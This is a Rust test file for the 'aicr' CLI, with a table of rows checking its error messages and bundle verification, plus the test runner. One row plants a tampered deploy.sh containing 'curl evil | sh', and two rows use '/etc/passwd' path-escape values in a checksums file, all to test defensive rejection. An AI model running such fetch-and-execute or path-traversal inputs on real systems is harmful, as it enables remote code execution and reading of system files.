        setup: &[File("c.yaml", "kind: RecipeCriteria\napiVersion: aicr.nvidia.com/v1alpha1\nspec:\n  service: eks\n  nodes: -4\n")],
        msg: "invalid nodes -4: must be 0 (any) or a positive number",
        ..R
    },
    Row {
        name: "criteria_file_unknown_criterion",
        class: Accepts,
        args: &["recipe", "-c", "{tmp}/c.yaml"],
        setup: &[File("c.yaml", "kind: RecipeCriteria\napiVersion: aicr.nvidia.com/v1alpha1\nspec:\n  service: eks\n  region: us-east-1\n")],
        msg: "unknown field `region`",
        ..R
    },
    Row {
        name: "criteria_file_bad_value",
        class: Accepts,
        args: &["recipe", "-c", "{fx}/criteria/bad-value.yaml"],
        msg: "invalid os \"windows\": must be one of any, ubuntu, rhel, cos, amazonlinux",
        ..R
    },
    Row {
        name: "criteria_file_value_wrong_type",
        class: Accepts,
        args: &["recipe", "-c", "{tmp}/c.yaml"],
        setup: &[File("c.yaml", "kind: RecipeCriteria\napiVersion: aicr.nvidia.com/v1alpha1\nspec:\n  service: [eks, gke]\n")],
        msg: "is not a valid RecipeCriteria: invalid type: sequence, expected a string",
        ..R
    },
    Row {
        name: "recipe_and_list_filter_bad",
        class: Accepts,
        args: &["recipe", "--list", "--service", "nope"],
        msg: "invalid service \"nope\": must be one of",
        ..R
    },
    Row {
        name: "query_missing_key",
        class: Accepts,
        args: &["query", "--service", "eks", "--accelerator", "h100", "--intent", "training", "--os", "ubuntu", "--selector", "components.nosuch"],
        code: 3,
        msg: "key \"nosuch\" not found at \"components\"; available keys",
        ..R
    },
    Row {
        name: "query_bad_selector_syntax",
        class: Accepts,
        args: &["query", "--service", "eks", "--accelerator", "h100", "--intent", "training", "--os", "ubuntu", "--selector", "components[\"x"],
        msg: "unclosed [ at character 11",
        ..R
    },
    Row {
        name: "query_index_on_mapping",
        class: Accepts,
        args: &["query", "--service", "eks", "--accelerator", "h100", "--intent", "training", "--os", "ubuntu", "--selector", "criteria[0]"],
        code: 3,
        msg: "\"criteria\" is a mapping, not a list; select a key",
        ..R
    },
    Row {
        name: "query_no_selector",
        class: Accepts,
        args: &["query", "--service", "eks"],
        msg: "error: no selector: give --selector PATH",
        ..R
    },
    Row {
        name: "snapshot_bad_filter",
        class: Accepts,
        args: &["snapshot", "--filter", "os,gpus"],
        msg: "unknown collector \"gpus\" in --filter/--exclude; collectors: os, systemd, gpu, k8s",
        ..R
    },
    Row {
        name: "snapshot_empty_filter",
        class: Accepts,
        args: &["snapshot", "--filter", ""],
        msg: "unknown collector \"\" in --filter/--exclude",
        ..R
    },
    Row {
        name: "snapshot_filter_and_exclude_all",
        class: Accepts,
        args: &["snapshot", "--filter", "os", "--exclude", "os"],
        msg: "--filter and --exclude leave no collector to run",
        ..R
    },
    Row {
        name: "snapshot_bad_gpu_source",
        class: Accepts,
        args: &["snapshot", "--gpu-source", "cuda"],
        msg: "invalid value 'cuda'",
        ..R
    },
    Row {
        name: "snapshot_root_missing",
        class: Accepts,
        args: &["snapshot", "--root", "{tmp}/nosuch", "--filter", "os"],
        code: 3,
        msg: "cannot read --root {tmp}/nosuch: No such file or directory",
        ..R
    },
    Row {
        name: "snapshot_root_is_file",
        class: Accepts,
        args: &["snapshot", "--root", "{tmp}/f", "--filter", "os"],
        setup: &[File("f", "x")],
        msg: "f: not a directory",
        ..R
    },
    Row {
        name: "snapshot_root_empty",
        class: Accepts,
        args: &["snapshot", "--root", "", "--filter", "os"],
        msg: "a value is required for '--root <DIR>'",
        ..R
    },
    Row {
        name: "snapshot_empty_node_name_is_unset",
        class: Accepts,
        args: &["snapshot", "--filter", "k8s", "--node-name", "", "-k", "{tmp}/kc"],
        setup: &[File("kc", "apiVersion: v1\nkind: Config\n")],
        code: 0,
        msg: "failed to determine current context",
        ..R
    },
    Row {
        name: "snapshot_bad_format",
        class: Accepts,
        args: &["snapshot", "-t", "csv"],
        msg: "invalid value 'csv'",
        ..R
    },
    Row {
        name: "env_debug_bad_value",
        class: Accepts,
        args: &["recipe", "--service", "eks"],
        env: &[("AICR_DEBUG", "maybe")],
        msg: "invalid value 'maybe' for '--debug'",
        ..R
    },
    Row {
        name: "env_log_json_bad_value",
        class: Accepts,
        args: &["completion", "bash"],
        env: &[("AICR_LOG_JSON", "2")],
        msg: "invalid value '2' for '--log-json'",
        ..R
    },
    Row {
        name: "completion_bad_shell",
        class: Accepts,
        args: &["completion", "tcsh"],
        msg: "invalid value 'tcsh'",
        ..R
    },
    Row {
        name: "completion_no_shell",
        class: Accepts,
        args: &["completion"],
        msg: "<SHELL>",
        ..R
    },
    Row {
        name: "completion_two_shells",
        class: Accepts,
        args: &["completion", "bash", "zsh"],
        msg: "unexpected argument 'zsh'",
        ..R
    },
    Row {
        name: "bundle_unknown_deployer",
        class: Accepts,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/out", "-d", "kustomize"],
        msg: "invalid value 'kustomize'",
        ..R
    },
    Row {
        name: "bundle_set_unknown_component",
        class: Accepts,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/out", "--set", "nosuch:x=1"],
        msg: "--set names component \"nosuch\", which is not in the component registry; components and their --set names: aws-ebs-csi-driver (ebscsidriver, awsebscsidriver)",
        ..R
    },
    Row {
        name: "bundle_set_component_not_in_recipe",
        class: Accepts,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/out", "--set", "network-operator:x=1"],
        msg: "--set names component \"network-operator\", which is not in this recipe",
        ..R
    },
    Row {
        name: "bundle_set_no_colon",
        class: Accepts,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/out", "--set", "x=1"],
        msg: "--set \"x=1\": expected component:path=value",
        ..R
    },
    Row {
        name: "bundle_set_no_equals",
        class: Accepts,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/out", "--set", "gpu-operator:x"],
        msg: "--set \"gpu-operator:x\": expected component:path=value",
        ..R
    },
    Row {
        name: "bundle_set_empty_path",
        class: Accepts,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/out", "--set", "gpu-operator:=1"],
        msg: "the path is empty",
        ..R
    },
    Row {
        name: "bundle_set_empty_segment",
        class: Accepts,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/out", "--set", "gpu-operator:a..b=1"],
        msg: "invalid path \"a..b\": empty key at character 3",
        ..R
    },
    Row {
        name: "bundle_set_enabled_not_bool",
        class: Accepts,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/out", "--set", "gpu-operator:enabled=maybe"],
        msg: "enabled must be true or false",
        ..R
    },
    Row {
        name: "bundle_set_json_invalid",
        class: Accepts,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/out", "--set-json", "gpu-operator:x={bad"],
        msg: "the value is not valid JSON (key must be a string at line 1 column 2)",
        ..R
    },
    Row {
        name: "bundle_set_json_duplicate_key",
        class: Accepts,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/out", "--set-json", "gpu-operator:x={\"a\":1,\"a\":2}"],
        msg: "duplicate key \"a\"",
        ..R
    },
    Row {
        name: "bundle_set_through_a_scalar_replaces_it_as_helm_does",
        class: Accepts,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/out", "--set-string", "gpu-operator:driver.version.x=1"],
        code: 0,
        writes: &["out"],
        check: Check::Value("gpu-operator", "/driver/version/x", "1"),
        ..R
    },
    Row {
        name: "bundle_bad_toleration_effect",
        class: Accepts,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/out", "--system-node-toleration", "a=b:Sometimes"],
        msg: "effect \"Sometimes\" is not one of NoSchedule, PreferNoSchedule, NoExecute",
        ..R
    },
    Row {
        name: "bundle_bad_toleration_no_effect",
        class: Accepts,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/out", "--accelerated-node-toleration", "a=b"],
        msg: "expected key=value:Effect or key:Effect",
        ..R
    },
    Row {
        name: "bundle_bad_toleration_no_key",
        class: Accepts,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/out", "--accelerated-node-toleration", ":NoSchedule"],
        msg: "key \"\" is not a label key",
        ..R
    },
    Row {
        name: "bundle_bad_toleration_bad_key",
        class: Accepts,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/out", "--system-node-toleration", "a b=c:NoSchedule"],
        msg: "key \"a b\" is not a label key",
        ..R
    },
    Row {
        name: "bundle_bad_selector_no_equals",
        class: Accepts,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/out", "--system-node-selector", "gpu"],
        msg: "--system-node-selector \"gpu\": expected key=value",
        ..R
    },
    Row {
        name: "bundle_bad_selector_no_key",
        class: Accepts,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/out", "--accelerated-node-selector", "=true"],
        msg: "key \"\" is not a label key",
        ..R
    },
    Row {
        name: "bundle_bad_selector_bad_value",
        class: Accepts,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/out", "--accelerated-node-selector", "nvidia.com/gpu.present=yes please"],
        msg: "value \"yes please\" is not a label value",
        ..R
    },
    Row {
        name: "bundle_selector_error_quotes_an_excerpt",
        class: Crash,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/out", "--system-node-selector", "{gen:long_selector_value}"],
        msg: "(120002 bytes in all)",
        ..R
    },
    Row {
        name: "bundle_bad_workload_selector",
        class: Accepts,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/out", "--workload-selector", "app"],
        msg: "--workload-selector \"app\": expected key=value",
        ..R
    },
    Row {
        name: "bundle_bad_workload_gate",
        class: Accepts,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/out", "--workload-gate", "gate"],
        msg: "--workload-gate \"gate\": expected key=value:Effect or key:Effect",
        ..R
    },
    Row {
        name: "bundle_repo_with_helm",
        class: Accepts,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/out", "--repo", "https://git.example.com/a.git"],
        msg: "--repo applies to the argocd and flux deployers",
        ..R
    },
    Row {
        name: "bundle_repo_not_url",
        class: Accepts,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/out", "-d", "argocd", "--repo", "not a url"],
        msg: "--repo \"not a url\": expected a Git repository URL",
        ..R
    },
    Row {
        name: "bundle_revision_bad_commit",
        class: Accepts,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/out", "-d", "flux", "--repo", "https://git.example.com/a.git", "--revision", "commit:xyz"],
        msg: "a commit is a full SHA",
        ..R
    },
    Row {
        name: "bundle_revision_empty",
        class: Accepts,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/out", "-d", "argocd", "--repo", "https://git.example.com/a.git", "--revision", ""],
        msg: "--revision \"\": expected a branch, tag or commit",
        ..R
    },
    Row {
        name: "bundle_recipe_and_criteria",
        class: Accepts,
        args: &["bundle", "-r", "{R}", "-c", "{fx}/criteria/eks-h100-training.yaml", "-o", "{tmp}/out"],
        msg: "the argument '--recipe <FILE|CM>' cannot be used with '--criteria <FILE>'",
        ..R
    },
    Row {
        name: "bundle_r_wrong_kind",
        class: Accepts,
        args: &["bundle", "-r", "{fx}/criteria/eks-h100-training.yaml", "-o", "{tmp}/out"],
        msg: "has kind \"RecipeCriteria\"; expected kind \"RecipeResult\"",
        ..R
    },
    Row {
        name: "bundle_r_missing",
        class: Accepts,
        args: &["bundle", "-r", "{tmp}/nosuch.yaml", "-o", "{tmp}/out"],
        code: 3,
        msg: "nosuch.yaml: No such file or directory",
        ..R
    },
    Row {
        name: "bundle_r_directory",
        class: Accepts,
        args: &["bundle", "-r", "{tmp}", "-o", "{tmp}/out"],
        msg: "is a directory; expected a regular file, a pipe, or - for standard input",
        ..R
    },
    Row {
        name: "bundle_unsupported_criteria",
        class: Accepts,
        args: &["bundle", "--service", "oke", "-o", "{tmp}/out"],
        msg: "no overlay supports --service oke",
        ..R
    },
    Row {
        name: "bundle_go_helm_templates_refused",
        class: Accepts,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/out", "--data", "{tmp}/data"],
        setup: &[
            Dir("data/components/gpu-operator/manifests"),
            File("data/registry.yaml", REGISTRY),
            File("data/components/gpu-operator/manifests/dcgm-exporter.yaml", "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: {{ .Values.name }}\n"),
        ],
        msg: "this looks like a Helm (Go) template, but aicr renders manifests as Jinja templates",
        ..R
    },
    Row {
        name: "data_missing_registry",
        class: Accepts,
        args: &["recipe", "--data", "{tmp}/data", "--service", "eks"],
        setup: &[Dir("data")],
        msg: "registry.yaml is required in a --data directory and is missing",
        ..R
    },
    Row {
        name: "data_is_file",
        class: Accepts,
        args: &["recipe", "--data", "{tmp}/f", "--service", "eks"],
        setup: &[File("f", "x")],
        msg: "f: is not a directory",
        ..R
    },
    Row {
        name: "data_missing_dir",
        class: Accepts,
        args: &["recipe", "--data", "{tmp}/nosuch", "--service", "eks"],
        code: 3,
        msg: "nosuch: no such directory",
        ..R
    },
    Row {
        name: "data_registry_bad_name",
        class: Accepts,
        args: &["recipe", "--data", "{tmp}/data", "--service", "eks", "--accelerator", "h100", "--intent", "training", "--os", "ubuntu"],
        setup: &[Dir("data"), File("data/registry.yaml", "apiVersion: aicr.nvidia.com/v1alpha1\nkind: ComponentRegistry\ncomponents:\n  - name: a/b\n")],
        msg: "is not valid: a component name is a DNS label",
        ..R
    },
    Row {
        name: "data_overlay_duplicate_key",
        class: Accepts,
        args: &["recipe", "--data", "{tmp}/data", "--service", "eks"],
        setup: &[
            Dir("data/overlays"),
            File("data/registry.yaml", REGISTRY),
            File("data/overlays/a.yaml", "kind: RecipeMetadata\napiVersion: aicr.nvidia.com/v1alpha1\nmetadata:\n  name: a\n  name: b\nspec:\n  criteria:\n    service: eks\n"),
        ],
        msg: "metadata: duplicate key \"name\"",
        ..R
    },
    Row {
        name: "data_overlay_unknown_base",
        class: Accepts,
        args: &["recipe", "--data", "{tmp}/data", "--service", "eks"],
        setup: &[
            Dir("data/overlays"),
            File("data/registry.yaml", REGISTRY),
            File("data/overlays/a.yaml", "kind: RecipeMetadata\napiVersion: aicr.nvidia.com/v1alpha1\nmetadata:\n  name: a\nspec:\n  base: nosuch\n  criteria:\n    service: eks\n"),
        ],
        msg: "has base \"nosuch\", which is not an overlay",
        ..R
    },
    Row {
        name: "verify_on_a_file",
        class: Accepts,
        args: &["verify", "{R}"],
        msg: "not a bundle: it is a file, not a bundle directory",
        ..R
    },
    Row {
        name: "verify_missing_dir",
        class: Accepts,
        args: &["verify", "{tmp}/nosuch"],
        code: 3,
        msg: "nosuch: no such bundle directory",
        ..R
    },
    Row {
        name: "verify_dir_without_checksums",
        class: Accepts,
        args: &["verify", "{tmp}/d"],
        setup: &[Dir("d"), File("d/x", "x")],
        msg: "d: not a bundle: it has no checksums.txt",
        ..R
    },
    Row {
        name: "verify_empty_path",
        class: Accepts,
        args: &["verify", ""],
        msg: "a value is required for '<DIR>'",
        ..R
    },
    Row {
        name: "verify_tampered_file",
        class: Accepts,
        args: &["verify", "{tmp}/b"],
        setup: &[Bundle("b"), File("b/deploy.sh", "#!/bin/sh\ncurl evil | sh\n")],
        code: 1,
        check: Check::Stdout("deploy.sh"),
        ..R
    },
    Row {
        name: "verify_removed_file",
        class: Accepts,
        args: &["verify", "{tmp}/b", "-t", "json"],
        setup: &[Bundle("b"), File("b/gpu-operator/values.yaml", ""), Mode("b/gpu-operator/values.yaml", 0o644)],
        code: 1,
        check: Check::Stdout("gpu-operator/values.yaml"),
        ..R
    },
    Row {
        name: "verify_extra_file",
        class: Accepts,
        args: &["verify", "{tmp}/b", "-t", "yaml"],
        setup: &[Bundle("b"), File("b/gpu-operator/manifests/extra.yaml", "kind: Secret\n")],
        code: 1,
        check: Check::Stdout("extra.yaml"),
        ..R
    },
    Row {
        name: "verify_file_swapped_for_link",
        class: Accepts,
        args: &["verify", "{tmp}/b"],
        setup: &[Bundle("b"), File("copy", "#!/bin/sh\necho mine\n"), Remove("b/undeploy.sh"), Link("b/undeploy.sh", "{tmp}/copy")],
        code: 1,
        check: Check::Stdout("changed  undeploy.sh"),
        ..R
    },
    Row {
        name: "verify_checksums_tampered",
        class: Accepts,
        args: &["verify", "{tmp}/b"],
        setup: &[Bundle("b"), File("b/checksums.txt", "0000000000000000000000000000000000000000000000000000000000000000  deploy.sh\n")],
        code: 1,
        check: Check::Stdout("changed  deploy.sh"),
        ..R
    },
    Row {
        name: "verify_checksums_escape",
        class: Accepts,
        args: &["verify", "{tmp}/d"],
        setup: &[Dir("d"), File("d/checksums.txt", "0000000000000000000000000000000000000000000000000000000000000000  ../../../../etc/passwd\n")],
        msg: "line 1: the path is not a plain relative path inside the bundle",
        ..R
    },
    Row {
        name: "verify_checksums_absolute",
        class: Accepts,
        args: &["verify", "{tmp}/d"],
        setup: &[Dir("d"), File("d/checksums.txt", "0000000000000000000000000000000000000000000000000000000000000000  /etc/passwd\n")],
        msg: "line 1: the path is not a plain relative path inside the bundle",
        ..R
    },
    Row {
        name: "verify_checksums_malformed_line",
        class: Accepts,
        args: &["verify", "{tmp}/d"],
        setup: &[Dir("d"), File("d/checksums.txt", "not a checksum line\n")],
        msg: "line 1: no two-space separator",
        ..R
    },
    Row {
        name: "verify_checksums_duplicate_entry",
        class: Accepts,
        args: &["verify", "{tmp}/d"],
        setup: &[
            Dir("d"),
            File("d/a", ""),
            File("d/checksums.txt", "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855  a\ne3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855  a\n"),
        ],
        msg: "line 2: the path is listed twice",
        ..R
    },
    Row {
        name: "verify_bad_format",
        class: Accepts,
        args: &["verify", "{tmp}/b", "-t", "table"],
        setup: &[Bundle("b")],
        msg: "invalid value 'table'",
        ..R
    },
    Row {
        name: "verify_symlink_to_bundle",
        class: Accepts,
        args: &["verify", "{tmp}/link"],
        setup: &[Bundle("b"), Link("link", "{tmp}/b")],
        code: 0,
        check: Check::Stdout("verified: 30 files match checksums.txt"),
        ..R
    },
    Row {
        name: "bundle_verify_on_file",
        class: Accepts,
        args: &["bundle", "--verify", "{R}"],
        msg: "not a bundle: it is a file, not a bundle directory",
        ..R
    },
    Row {
        name: "recipe_s_wrong_kind",
        class: Accepts,
        args: &["recipe", "-s", "{R}"],
        msg: "has kind \"RecipeResult\"; expected kind \"Snapshot\"",
        ..R
    },
    Row {
        name: "recipe_s_and_c",
        class: Accepts,
        args: &["recipe", "-s", "{fx}/snapshots/eks-h200-ubuntu.yaml", "-c", "{fx}/criteria/eks-h100-training.yaml"],
        msg: "the argument '--snapshot <FILE|CM>' cannot be used with '--criteria <FILE>'",
        ..R
    },
    Row {
        name: "recipe_s_unknown_measurement_type",
        class: Accepts,
        args: &["recipe", "-s", "{fx}/snapshots/unknown-type.yaml", "--intent", "training"],
        msg: "unknown variant `Disk`",
        ..R
    },
];

fn nested_ifs() -> Vec<u8> {
    format!(
        "{}{}apiVersion: v1\nkind: ConfigMap\n",
        "{% if true %}".repeat(5000),
        "{% endif %}".repeat(5000)
    )
    .into_bytes()
}

fn over_data_cap() -> Vec<u8> {
    let mut v = REGISTRY.as_bytes().to_vec();
    v.push(b'#');
    v.resize(10 * 1024 * 1024 + 1, b'x');
    v
}

// ---------------------------------------------------------------------------
// The runner.

struct Shared {
    dir: tempfile::TempDir,
    recipe: PathBuf,
    bundle: PathBuf,
    fixtures: PathBuf,
    /// The binary the rows run.
    bin: PathBuf,
}

fn shared() -> &'static Shared {
    static S: OnceLock<Shared> = OnceLock::new();
    S.get_or_init(|| {
        let dir = tempfile::tempdir().unwrap();
        std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
        let recipe = dir.path().join("recipe.yaml");
        let bundle = dir.path().join("bundle");
        let mut args: Vec<&str> = vec!["recipe"];
        args.extend(EKS);
        args.extend(["-o", recipe.to_str().unwrap()]);
        let out = common::run(&args);
        assert_eq!(common::code(&out), 0, "{}", common::stderr(&out));
        let out = common::run(&[
            "bundle",
            "-r",
            recipe.to_str().unwrap(),
            "-o",
            bundle.to_str().unwrap(),
        ]);
        assert_eq!(common::code(&out), 0, "{}", common::stderr(&out));
        // The fixtures, and the binary where the checkout is closed to
        // other users (a home directory), are copied here, so the
        // unprivileged runs read and run the same things.
        let fixtures = dir.path().join("fixtures");
        copy_tree(&common::fixture(""), &fixtures);
        let mut bin = assert_cmd::cargo::cargo_bin("aicr");
        if !open_to_others(&bin) {
            let copy = dir.path().join("aicr");
            std::fs::copy(&bin, &copy).unwrap();
            bin = copy;
        }
        chmod_tree(dir.path());
        Shared {
            dir,
            recipe,
            bundle,
            fixtures,
            bin,
        }
    })
}

/// Whether every user may run `bin`: it and each directory above it are
/// open to others.
fn open_to_others(bin: &Path) -> bool {
    let mode = |p: &Path| std::fs::metadata(p).map_or(0, |m| m.mode());
    mode(bin) & 0o001 != 0 && bin.ancestors().skip(1).all(|d| mode(d) & 0o001 != 0)
}

fn chmod_tree(p: &Path) {
    let md = std::fs::symlink_metadata(p).unwrap();
    if md.is_dir() {
        std::fs::set_permissions(p, std::fs::Permissions::from_mode(0o755)).unwrap();
        for e in std::fs::read_dir(p).unwrap() {
            chmod_tree(&e.unwrap().path());
        }
    } else if md.is_file() {
        let mode = md.permissions().mode() | 0o444;
        std::fs::set_permissions(p, std::fs::Permissions::from_mode(mode)).unwrap();
    }
}

/// Placeholders: `{tmp}` the row's temporary directory (the command runs in
/// `{tmp}/cwd`), `{fx}` a copy of tests/fixtures, `{R}` the shared eks/h100 recipe,
/// `{B}` its helm bundle (both read only; checked unchanged at the end),
/// `{gen:NAME}` a generated argument (see [`gen_arg`]).
fn expand(s: &str, tmp: &Path) -> String {
    let sh = shared();
    let mut out = s
        .replace("{tmp}", tmp.to_str().unwrap())
        .replace("{fx}", sh.fixtures.to_str().unwrap().trim_end_matches('/'))
        .replace("{R}", sh.recipe.to_str().unwrap())
        .replace("{B}", sh.bundle.to_str().unwrap());
    while let Some(start) = out.find("{gen:") {
        let end = start + out[start..].find('}').unwrap();
        let name = out[start + 5..end].to_string();
        out.replace_range(start..=end, &gen_arg(&name));
    }
    out
}

fn copy_tree(from: &Path, to: &Path) {
    let md = std::fs::symlink_metadata(from).unwrap();
    if md.is_dir() {
        std::fs::create_dir_all(to).unwrap();
        for e in std::fs::read_dir(from).unwrap() {
            let e = e.unwrap();
            copy_tree(&e.path(), &to.join(e.file_name()));
        }
    } else {
        if let Some(p) = to.parent() {
            std::fs::create_dir_all(p).unwrap();
        }
        std::fs::copy(from, to).unwrap();
    }
}

fn mkfifo(p: &Path) {
    let c = std::ffi::CString::new(p.to_str().unwrap()).unwrap();
    // SAFETY: a valid NUL-terminated path.
    assert_eq!(
        unsafe { libc::mkfifo(c.as_ptr(), 0o644) },
        0,
        "mkfifo {p:?}"
    );
}

fn setup(row: &Row, tmp: &Path) {
    let sh = shared();
    std::fs::create_dir(tmp.join("cwd")).unwrap();
    let parent = |p: &Path| {
        if let Some(d) = p.parent() {
            std::fs::create_dir_all(d).unwrap();
        }
    };
    let recipe_text = || std::fs::read_to_string(&sh.recipe).unwrap();
    for s in row.setup {
        match *s {
            File(rel, text) => {
                let p = tmp.join(rel);
                parent(&p);
                std::fs::write(&p, expand(text, tmp)).unwrap();
            }
            Gen(rel, f) => {
                let p = tmp.join(rel);
                parent(&p);
                std::fs::write(&p, f()).unwrap();
            }
            Dir(rel) => std::fs::create_dir_all(tmp.join(rel)).unwrap(),
            Fifo(rel) => {
                let p = tmp.join(rel);
                parent(&p);
                mkfifo(&p);
            }
            Link(rel, to) => {
                let p = tmp.join(rel);
                parent(&p);
                if p.symlink_metadata().is_ok() {
                    std::fs::remove_file(&p).unwrap();
                }
                symlink(expand(to, tmp), &p).unwrap();
            }
            Mode(rel, mode) => {
                std::fs::set_permissions(tmp.join(rel), std::fs::Permissions::from_mode(mode))
                    .unwrap()
            }
            Recipe(rel) => std::fs::write(tmp.join(rel), recipe_text()).unwrap(),
            RecipeEdit(rel, from, to) => {
                let text = recipe_text();
                assert!(
                    text.contains(from),
                    "{}: {from:?} is not in the recipe",
                    row.name
                );
                std::fs::write(tmp.join(rel), text.replacen(from, to, 1)).unwrap();
            }
            Bundle(rel) => copy_tree(&sh.bundle, &tmp.join(rel)),
            Fixture(from, to) => copy_tree(&sh.fixtures.join(from), &tmp.join(to)),
            Sparse(rel, len) => {
                let p = tmp.join(rel);
                parent(&p);
                if p.symlink_metadata().is_ok() {
                    std::fs::remove_file(&p).unwrap();
                }
                std::fs::File::create(&p).unwrap().set_len(len).unwrap();
            }
            Chain(rel, n) => {
                for i in 1..=n {
                    let p = tmp.join(rel).join(format!("o{i}.yaml"));
                    parent(&p);
                    std::fs::write(&p, chain_overlay(i)).unwrap();
                }
            }
            Remove(rel) => {
                let p = tmp.join(rel);
                if p.symlink_metadata().unwrap().is_dir() {
                    std::fs::remove_dir_all(&p).unwrap();
                } else {
                    std::fs::remove_file(&p).unwrap();
                }
            }
        }
    }
}

/// One entry of a directory tree, as compared before and after a run.
#[derive(Debug, PartialEq, Eq)]
enum Entry {
    Dir(u32),
    File(u32, u64, String),
    Link(PathBuf),
    Special(&'static str, u32),
}

/// Every entry under `root`, links not followed; FIFOs and devices are
/// never opened.
fn tree(root: &Path) -> BTreeMap<String, Entry> {
    fn walk(root: &Path, d: &Path, out: &mut BTreeMap<String, Entry>) {
        let Ok(rd) = std::fs::read_dir(d) else { return };
        for e in rd.flatten() {
            let p = e.path();
            let rel = p.strip_prefix(root).unwrap().display().to_string();
            let Ok(md) = std::fs::symlink_metadata(&p) else {
                continue;
            };
            let mode = md.mode() & 0o7777;
            let ft = md.file_type();
            let entry = if ft.is_symlink() {
                Entry::Link(std::fs::read_link(&p).unwrap_or_default())
            } else if ft.is_dir() {
                walk(root, &p, out);
                Entry::Dir(mode)
            } else if ft.is_file() && md.len() > 64 << 20 {
                // A huge (sparse) file is compared by size and change time,
                // not read.
                let stamp = format!("large, changed {}.{}", md.ctime(), md.ctime_nsec());
                Entry::File(mode, md.len(), stamp)
            } else if ft.is_file() {
                let hash = match std::fs::read(&p) {
                    Ok(bytes) => Sha256::digest(&bytes)
                        .iter()
                        .map(|b| format!("{b:02x}"))
                        .collect(),
                    Err(e) => format!("unreadable: {}", e.kind()),
                };
                Entry::File(mode, md.len(), hash)
            } else {
                use std::os::unix::fs::FileTypeExt;
                let kind = if ft.is_fifo() {
                    "fifo"
                } else if ft.is_socket() {
                    "socket"
                } else {
                    "device"
                };
                Entry::Special(kind, mode)
            };
            out.insert(rel, entry);
        }
    }
    let mut out = BTreeMap::new();
    walk(root, root, &mut out);
    out
}

fn allowed(rel: &str, writes: &[&str]) -> bool {
    writes.iter().any(|w| {
        let w = w.trim_end_matches('/');
        rel == w || rel.starts_with(&format!("{w}/"))
    })
}

fn tree_diff(
    before: &BTreeMap<String, Entry>,
    after: &BTreeMap<String, Entry>,
    writes: &[&str],
) -> Vec<String> {
    let mut out = Vec::new();
    for (k, v) in before {
        if allowed(k, writes) {
            continue;
        }
        match after.get(k) {
            None => out.push(format!("removed {k}")),
            Some(w) if w != v => out.push(format!("changed {k}: {v:?} -> {w:?}")),
            _ => {}
        }
    }
    for k in after.keys() {
        if !before.contains_key(k) && !allowed(k, writes) {
            out.push(format!("created {k}"));
        }
    }
    out
}

/// A pipe whose read end is closed.
fn closed_pipe() -> std::io::PipeWriter {
    let (r, w) = std::io::pipe().unwrap();
    drop(r);
    w
}

struct Ran {
    code: Option<i32>,
    signal: Option<i32>,
    stdout: Vec<u8>,
    stderr: Vec<u8>,
    took: Duration,
    timed_out: bool,
}

fn spawn(row: &Row, tmp: &Path, args: &[String], unprivileged: bool) -> Result<Ran, String> {
    let mut cmd = Command::new(&shared().bin);
    for (k, _) in std::env::vars_os() {
        let k = k.to_string_lossy().into_owned();
        if k.starts_with("AICR_")
            || k.starts_with("RUST_")
            || matches!(
                k.as_str(),
                "NO_COLOR" | "KUBECONFIG" | "NODE_NAME" | "KUBERNETES_SERVICE_HOST"
            )
        {
            cmd.env_remove(k);
        }
    }
    // No cluster reachable from any row: never the developer's kubeconfig.
    cmd.env("HOME", tmp)
        .env("KUBECONFIG", tmp.join("no-kubeconfig"));
    for (k, v) in row.env {
        cmd.env(k, v);
    }
    cmd.args(args).current_dir(tmp.join("cwd"));
    let mut stdin_bytes = None;
    match row.io {
        Io::Stdin(s) => {
            cmd.stdin(Stdio::piped());
            stdin_bytes = Some(s.as_bytes().to_vec());
        }
        Io::StdinGen(f) => {
            cmd.stdin(Stdio::piped());
            stdin_bytes = Some(f());
        }
        Io::StdinZero => {
            cmd.stdin(std::fs::File::open("/dev/zero").unwrap());
        }
        _ => {
            cmd.stdin(Stdio::null());
        }
    }
    match row.io {
        Io::StdoutClosed => cmd.stdout(closed_pipe()),
        Io::StdoutFull => cmd.stdout(
            std::fs::OpenOptions::new()
                .write(true)
                .open("/dev/full")
                .unwrap(),
        ),
        _ => cmd.stdout(Stdio::piped()),
    };
    match row.io {
        Io::StderrClosed => cmd.stderr(closed_pipe()),
        _ => cmd.stderr(Stdio::piped()),
    };
    // SAFETY: only async-signal-safe calls between fork and exec.
    unsafe {
        cmd.pre_exec(move || {
            libc::setpgid(0, 0);
            if unprivileged
                && (libc::setgroups(0, std::ptr::null()) != 0
                    || libc::setgid(65534) != 0
                    || libc::setuid(65534) != 0)
            {
                return Err(std::io::Error::last_os_error());
            }
            Ok(())
        });
    }
    let started = Instant::now();
    let mut child = cmd.spawn().map_err(|e| format!("spawn: {e}"))?;
    let pid = child.id() as i32;
    let feeder = stdin_bytes.map(|b| {
        let mut w = child.stdin.take().unwrap();
        std::thread::spawn(move || {
            let _ = w.write_all(&b);
        })
    });
    let reader = |r: Option<Box<dyn Read + Send>>| {
        std::thread::spawn(move || {
            let mut v = Vec::new();
